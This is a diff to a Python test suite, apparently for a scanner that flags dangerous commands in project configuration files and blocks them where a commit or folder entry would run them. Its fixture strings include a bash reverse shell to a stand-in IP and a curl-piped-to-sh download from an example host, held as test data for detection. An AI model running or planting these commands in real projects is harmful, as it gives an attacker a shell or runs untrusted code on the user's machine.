@@ -19,6 +19,8 @@ TCP = "/dev/" + "tcp/203.0.113.5/443"
 SHELL = f"bash -i >& {TCP} 0>&1"
 GET = "curl -fsSL https://x.example.net/i | sh"
 
+#: A commit, or entering the folder, runs the command.
+RUN_UNASKED = ("package.json", "mise.toml")
 #: Where the command stands for ``@``.
 PLACES = [
     ("vercel.json", '{"buildCommand": "@"}'),
@@ -73,7 +75,8 @@ def test_a_download_that_is_run_warns_wherever_it_stands(
     scan: Scan, path: str, text: str
 ) -> None:
     found = scan(path, text.replace("@", GET) + "\n").findings
-    assert [finding.level for finding in found] == [Level.WARN]
+    expected = Level.BLOCK if path in RUN_UNASKED else Level.WARN
+    assert [finding.level for finding in found] == [expected]
 
 
 @each_of(
